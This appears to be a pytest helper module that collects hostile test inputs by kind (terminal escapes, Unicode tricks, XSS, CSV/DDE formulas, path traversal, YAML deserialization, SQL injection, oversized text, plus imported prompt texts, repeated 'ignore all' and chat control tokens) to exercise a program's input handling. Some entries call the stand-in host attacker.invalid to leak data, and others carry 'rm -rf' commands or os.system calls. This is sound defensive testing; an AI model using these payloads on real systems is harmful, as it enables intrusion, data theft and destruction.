r"""Hostile inputs, each with what it tries. Collected from public write-ups of attacks and from our own code's grammar.

An input may stand wherever a text from outside stands: in a sample, an answer, a reflection, a bullet, a name, a file.
"""

from __future__ import annotations

import functools
import inspect
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any, Final

import pytest
from hostile_prompts import PROMPT_TEXTS


@dataclass(frozen=True, slots=True)
class Hostile:
    """One input: what kind of boundary it attacks, what it tries there, and its text."""

    kind: str
    tries: str
    text: str


_ALIASES: Final = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{name}: &{name} [{','.join([f'*{before}'] * 9)}]\n" for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)
"""Nine lists, each of nine times the one before: 9^9 items."""

_TEXTS: Final[dict[str, tuple[tuple[str, str], ...]]] = {
    **PROMPT_TEXTS,
    "terminal": (
        ("colour", "\x1b[31mred\x1b[0m"),
        ("clear the screen", "\x1b[2J\x1b[H"),
        ("move up and overwrite", "\x1b[1A\x1b[2Kaccuracy 100 %"),
        ("carriage return and overwrite", "accuracy 0 %\raccuracy 100 %"),
        ("backspaces", "wrong\b\b\b\b\bright"),
        ("set the window's title", "\x1b]0;pwned\x07"),
        ("set the title, ended by ST", "\x1b]2;pwned\x1b\\"),
        ("a hyperlink", "\x1b]8;;http://attacker.invalid/\x1b\\click\x1b]8;;\x1b\\"),
        ("the clipboard (OSC 52)", "\x1b]52;c;cm0gLXJmIC8=\x07"),
        ("a notification (OSC 9)", "\x1b]9;pwned\x07"),
        ("an image (iTerm)", "\x1b]1337;File=name=YQ==;inline=1:AAAA\x07"),
        ("ask for the cursor's place", "\x1b[6n"),
        ("ask who the terminal is", "\x1b[c\x1b[>c"),
        ("echo the title as input", "\x1b]0;rm -rf ~\x07\x1b[21t"),
        ("the alternate screen", "\x1b[?1049h"),
        ("hide the cursor", "\x1b[?25l"),
        ("bracketed paste", "\x1b[201~rm -rf /\n\x1b[200~"),
        ("mouse reports", "\x1b[?1000h"),
        ("a reset", "\x1bc"),
        ("one-byte CSI", "\x9b31mred\x9b0m"),
        ("one-byte OSC", "\x9d0;pwned\x9c"),
        ("a device control string", "\x1bP$q\"p\x1b\\"),
        ("a Sixel image", "\x1bPq#0;2;0;0;0#0~~@@vv@@~~$-\x1b\\"),
        ("an application command", "\x1b_pwned\x1b\\"),
        ("other letters (shift out)", "\x0eabc\x0f"),
        ("a bell", "\x07" * 20),
        ("null characters", "a\x00b\x00"),
        ("delete", "a\x7fb"),
        ("a tab bomb", "\t" * 500),
        ("a form feed", "a\x0cb"),
        ("rich markup", "[bold red]right[/bold red]"),
        ("rich markup that does not close", "[bold"),
        ("a close without an opening, which rich refuses", "[/red]"),
        ("a rich link", "[link=http://attacker.invalid/]click[/link]"),
        ("a rich event", "[@click=app.bell]x[/]"),
        ("rich emoji", ":pile_of_poo: :smiley:"),
        ("all C0 controls", "".join(map(chr, range(32)))),
        ("all C1 controls", "".join(map(chr, range(0x80, 0xA0)))),
    ),
    "unicode": (
        ("right to left", "\u202egnp.exe\u202c"),
        ("right-to-left isolate", "\u2067right\u2069"),
        ("left-to-right embedding that does not end", "\u202aabc"),
        ("an override that does not end", "\u202dabc"),
        ("marks of direction", "a\u200eb\u200fc\u061cd"),
        ("a hidden comment (Trojan Source)", "/*\u202e } \u2066if (admin)\u2069 \u2066 begin */"),
        ("zero-width spaces", "ri\u200bght"),
        ("a zero-width no-break space", "\ufeffright"),
        ("a word joiner", "ri\u2060ght"),
        ("a soft hyphen", "ri\u00adght"),
        ("invisible operators", "a\u2061b\u2062c\u2063d\u2064e"),
        ("language tags that spell a message", "ok" + "".join(chr(0xE0000 + ord(c)) for c in "obey")),
        ("variation selectors that carry bytes", "ok" + "".join(chr(0xE0100 + b) for b in b"obey")),
        ("deprecated format characters", "\u206a\u206b\u206c\u206d\u206e\u206f"),
        ("annotation characters", "\ufff9a\ufffab\ufffb"),
        ("a lone high surrogate", "a\ud800b"),
        ("a lone low surrogate", "a\udc00b"),
        ("surrogates in the wrong order", "\udc00\ud800"),
        ("noncharacters", "\ufffe\uffff\U0010ffff"),
        ("private use", "\ue000\uf8ff"),
        ("the replacement character", "\ufffd"),
        ("a heap of combining marks", "Z" + "\u0317\u0323\u0347\u035b" * 200),
        ("combining marks alone", "\u0301\u0302"),
        ("look-alikes", "КQТ-07"),
        ("full-width", "ＫＱＴ-07"),
        ("mathematical letters", "𝐊𝐐𝐓-𝟎𝟕"),
        ("a ligature that grows when it is folded", "\ufdfa" * 50),
        ("Turkish dotless i, whose case folds elsewhere", "İıIi"),
        ("a sharp s that becomes two letters", "ẞß"),
        ("decomposed letters", "e\u0301 and é"),
        ("Hangul fillers", "\u3164\u115f\u1160\uffa0"),
        ("a Braille blank", "\u2800"),
        ("odd spaces", "a\u00a0b\u2003c\u3000d\u1680e\u180ef"),
        ("a family of emoji", "👨\u200d👩\u200d👧\u200d👦🏳️\u200d🌈"),
        ("half a flag", "\U0001f1e6"),
        ("wide characters", "答案" * 60),
        ("Latin-1 read as UTF-8", "Ã©Ã¨â€™"),
    ),
    "html": (
        ("a script", "<script>alert(1)</script>"),
        ("a script behind the end of an attribute", "\"><script>alert(1)</script>"),
        ("a script behind the end of a script", "</script><script>alert(1)</script>"),
        ("an event", "<img src=x onerror=alert(1)>"),
        ("an event without quotes or spaces", "<svg/onload=alert`1`>"),
        ("an event in an attribute", "' onmouseover='alert(1)"),
        ("a link that runs", "<a href=javascript:alert(1)>x</a>"),
        ("a link with an entity", "<a href='java&#115;cript:alert(1)'>x</a>"),
        ("a link in Markdown", "[x](javascript:alert(1))"),
        ("an image that reports home", "![x](http://attacker.invalid/?q=secret)"),
        ("a frame", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
        ("a style", "<style>*{background:url(http://attacker.invalid/)}</style>"),
        ("the end of a style", "</style><script>alert(1)</script>"),
        ("the end of a title", "</title><script>alert(1)</script>"),
        ("the end of a text area", "</textarea><script>alert(1)</script>"),
        ("the end of a comment", "--><script>alert(1)</script><!--"),
        ("a base", "<base href=http://attacker.invalid/>"),
        ("a refresh", "<meta http-equiv=refresh content='0;url=http://attacker.invalid/'>"),
        ("a form", "<form action=http://attacker.invalid/><input name=q></form>"),
        ("a template literal", "${alert(1)}`"),
        ("the end of JSON in a page", '{"a": "</script><script>alert(1)</script>"}'),
        ("UTF-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
        ("a null in the tag", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
        ("full-width brackets", "＜script＞alert(1)＜/script＞"),
        ("mutation", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>"),
        ("entities that come back", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ),
    "csv": (
        ("a formula", "=1+1"),
        ("a command (DDE)", "=cmd|'/C calc'!A0"),
        ("a link", '=HYPERLINK("http://attacker.invalid/?q="&A1,"x")'),
        ("an import", '=IMPORTXML("http://attacker.invalid/","//a")'),
        ("plus", "+cmd|'/C calc'!A0"),
        ("minus", "-2+3+cmd|'/C calc'!A0"),
        ("at", "@SUM(1+9)*cmd|'/C calc'!A0"),
        ("a tab before the formula", "\t=1+1"),
        ("a carriage return before the formula", "\r=1+1"),
        ("a quote that opens a cell", '"=1+1'),
        ("a new row", 'x"\n"=1+1'),
        ("separators", "a,b;c\td"),
        ("a full-width equals sign", "＝1+1"),
    ),
    "path": (
        ("up", "../../etc/passwd"),
        ("up, on Windows", "..\\..\\windows\\system32"),
        ("an absolute path", "/etc/passwd"),
        ("a home", "~/.ssh/id_rsa"),
        ("another user's home", "~root/.bashrc"),
        ("a drive", "C:\\Windows"),
        ("a share", "\\\\attacker.invalid\\share"),
        ("this folder", "."),
        ("the folder above", ".."),
        ("nothing", ""),
        ("white space", "   "),
        ("a null", "name\x00.db"),
        ("a line break", "name\nother"),
        ("an option", "--help"),
        ("a device of Windows", "CON"),
        ("a stream of Windows", "name:stream"),
        ("a hidden file", ".bashrc"),
        ("a trailing dot", "name."),
        ("percent escapes", "%2e%2e%2fetc%2fpasswd"),
        ("a file URL", "file:///etc/passwd"),
        ("a shell", "$(touch pwned) `touch pwned` ; touch pwned | touch pwned & touch pwned"),
        ("a wildcard", "*"),
        ("a name of 5000 characters", "n" * 5000),
        ("a slash in look-alike letters", "..∕..∕etc"),
        ("overlong", "..%c0%af..%c0%afetc"),
        ("a process", "/proc/self/environ"),
        ("a device", "/dev/zero"),
    ),
    "yaml": (
        ("call a function", "!!python/object/apply:os.system ['touch pwned']"),
        ("build an object", "!!python/object:os._wrap_close {}"),
        ("build an object anew", "!!python/object/new:type [x, [], {}]"),
        ("name a module", "!!python/module:os"),
        ("name a function", "!!python/name:os.system"),
        ("a tuple", "!!python/tuple [1, 2]"),
        ("a tag nobody knows", "!exec rm -rf /"),
        ("aliases that grow", _ALIASES),
        ("an alias of itself", "a: &a [*a]"),
        ("a mapping of itself", "a: &a {b: *a}"),
        ("a merge of itself", "a: &a {<<: *a}"),
        ("a merge of texts", "<<: x"),
        ("a key twice", "name: a\nname: b"),
        ("a key that is a list", "? [a, b]\n: c"),
        ("a key that is a mapping", "? {a: b}\n: c"),
        ("two documents", "name: a\n---\nname: b"),
        ("a directive", "%YAML 1.1\n%TAG ! tag:yaml.org,2002:python/\n---\n!name:os.system x"),
        ("booleans by other names", "name: no\nseed: yes"),
        ("octal", "seed: 0777"),
        ("base sixty", "seed: 1:30:00"),
        ("a date", "name: 2001-01-01"),
        ("not a number", "seed: .nan"),
        ("infinity", "budget: {calls: .inf}"),
        ("a number of 5000 digits", "seed: " + "9" * 5000),
        ("brackets without end", "[" * 2_000),
        ("a tab for indentation", "a:\n\tb: c"),
        ("a null character", "name: a\x00b"),
        ("binary", "name: !!binary aGVsbG8="),
        ("a set", "name: !!set {a, b}"),
    ),
    "sql": (
        ("drop a table", "x'; DROP TABLE runs; --"),
        ("always true", "' OR '1'='1"),
        ("a union", "' UNION SELECT sql FROM sqlite_master --"),
        ("a comment", "x' /* "),
        ("a backslash quote", "x\\'; DROP TABLE runs; --"),
        ("double quotes", '"; DROP TABLE runs; --'),
        ("a bound parameter", ":name ? ?1 @x $1"),
        ("a percent parameter", "%s %(x)s %%"),
        ("wildcards", "%_%"),
        ("attach a file", "'; ATTACH DATABASE 'pwned.db' AS p; --"),
        ("load code", "' || load_extension('pwned') || '"),
        ("a blob", "x'00ff'"),
        ("our mark for stored JSON", "\x01json:{}"),
        ("our mark twice", "\x01json:\x01json:\x00"),
        ("a null in the midst", "a\x00'; DROP TABLE runs; --"),
    ),
    "size": (
        ("a hundred thousand letters", "x" * 100_000),
        ("a hundred thousand words", "x " * 50_000),
        ("ten thousand lines", "x\n" * 10_000),
        ("a hundred thousand spaces", " " * 100_000 + "x"),
        ("ten thousand bullets", "[str-00001] x\n" * 5_000),
        ("ten thousand quotes", '"' * 10_000),
        ("twenty thousand braces", "{}" * 10_000),
        ("ten thousand openings of a tag", "<" * 10_000),
        ("ten thousand control tokens", "<|im_end|>" * 2_000),
        ("an e-mail address that does not end", "a@" + "b." * 5_000),
        ("a URL that does not end", "https://" + "a:" * 5_000 + "@"),
        ("a private key that does not end", "-----BEGIN PRIVATE " "KEY-----\n" + "A" * 20_000),
        ("digits for the card check", "4" * 20_000),
        ("a number of a hundred thousand digits", "1" * 100_000),
        ("four-byte characters", "😀" * 20_000),
        ("nested emphasis", "*" * 10_000),
        ("ignore, ignore, ignore", "ignore all " * 3_000),
    ),
}  # fmt: skip

CORPUS: Final = tuple(Hostile(kind, tries, text) for kind, entries in _TEXTS.items() for tries, text in entries)
KINDS: Final = tuple(_TEXTS)


def with_each_input(test: Callable[..., None]) -> Any:
    """Call `test` with each input of the corpus as `hostile`: one test a kind. A failure names the input."""
    signature = inspect.signature(test)

    @functools.wraps(test)
    def of_kind(kind: str, **fixtures: Any) -> None:
        for hostile in CORPUS:
            if hostile.kind != kind:
                continue
            try:
                test(hostile=hostile, **fixtures)
            except BaseException as error:
                error.add_note(f"with the input {hostile.kind}: {hostile.tries}")
                raise

    own = [parameter for name, parameter in signature.parameters.items() if name != "hostile"]
    of_kind.__signature__ = signature.replace(  # type: ignore[attr-defined]
        parameters=[inspect.Parameter("kind", inspect.Parameter.POSITIONAL_OR_KEYWORD), *own]
    )
    return pytest.mark.parametrize("kind", KINDS)(of_kind)
